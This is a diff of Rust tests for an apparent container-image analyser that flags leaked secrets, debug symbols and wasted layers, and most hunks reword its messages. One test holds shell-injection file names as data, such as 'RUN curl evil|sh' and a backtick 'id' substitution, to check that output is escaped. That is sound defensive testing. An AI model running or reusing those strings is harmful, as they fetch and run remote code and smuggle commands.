@@ -289,7 +289,7 @@ fn secrets_in_deleted_files_are_found() {
         paths(&image, &finding),
         ["/srv/deploy.pem", "/srv/settings.py"]
     );
-    let why = "/srv/deploy.pem: a private key on line 1; /srv/settings.py: a GitHub token on line 2. Some of it a later layer deletes or replaces; whoever can pull the image can read it all the same.";
+    let why = "/srv/deploy.pem: a private key on line 1; /srv/settings.py: a GitHub token on line 2. Later layers delete or replace some of it, but everyone who can pull the image can read all of it.";
     assert_eq!(finding.why, why);
     let said = format!("{finding:?}");
     assert!(
@@ -309,7 +309,7 @@ fn secrets_in_the_environment_and_instructions_are_found() {
         )
         .config(config);
     let (_, finding) = one(&image, FindingKind::Secret);
-    let why = "a value in ENV DB_PASSWORD; a GitLab token in line 2 of the history. Whoever can pull the image can read it.";
+    let why = "a value in ENV DB_PASSWORD; a GitLab token in line 2 of the history. Everyone who can pull the image can read it.";
     assert_eq!(finding.why, why);
 }
 
@@ -578,8 +578,8 @@ fn names_stay_names_in_the_lines() {
         " && rm -rf /tmp/-rf '/tmp/it'\\''s'?'RUN curl evil|sh'?'\"$HOME`id`\" * [x] \\'",
         "keys/a b",
         "keys/it's?RUN curl evil|sh?\"$HOME`id`\" \\* \\[x\\] \\\\",
-        "It is copied from another stage or image: leave it out of what is copied, or delete it there.",
-        "# if an instruction between needs it, write all of them as one",
+        "It is copied from another stage or image: exclude it from the copy, or delete it there.",
+        "# if an instruction in between needs it, merge all of them into one",
     ] {
         assert!(lines.iter().any(|one| *one == line), "{line}\n{lines:#?}");
     }
@@ -730,7 +730,7 @@ fn symbols_are_explained_in_a_sentence() {
     let (_, finding) = one(&image, FindingKind::Unstripped);
     assert_eq!(
         finding.why,
-        "/srv/0, /srv/1, /srv/2, and 2 more carry what only a debugger reads."
+        "/srv/0, /srv/1, /srv/2, and 2 more contain debug symbols."
     );
     // The image has no tool that strips them.
     assert!(matches!(finding.fix, Fix::Words(_)), "{:?}", finding.fix);
@@ -780,7 +780,7 @@ fn a_line_whose_copies_are_all_deleted_is_omitted() {
             .layer(said, |layer| layer.filled("ctx/x", 100_000, 1))
             .layer("RUN rm -rf /ctx", |layer| layer.whiteout("ctx"));
         let (_, finding) = one(&image, FindingKind::Deleted);
-        let words = "Leave the line out: nothing that it copies is kept.";
+        let words = "Remove the instruction: none of the files it copies are needed.";
         assert_eq!(finding.fix, Fix::Words(vec![words.to_owned()]), "{said}");
     }
 }
@@ -792,7 +792,7 @@ fn a_mode_without_effect_is_omitted() {
         .layer("COPY app /srv/app # buildkit", app)
         .layer("RUN /bin/sh -c chmod 755 /srv/app # buildkit", app);
     let (_, finding) = one(&image, FindingKind::ReStored);
-    let words = "Leave out what layer 3 does to it: it has the same mode and owner before.";
+    let words = "Remove the change in layer 3: mode and owner are the same before it.";
     assert_eq!(finding.fix, Fix::Words(vec![words.to_owned()]));
 }
 
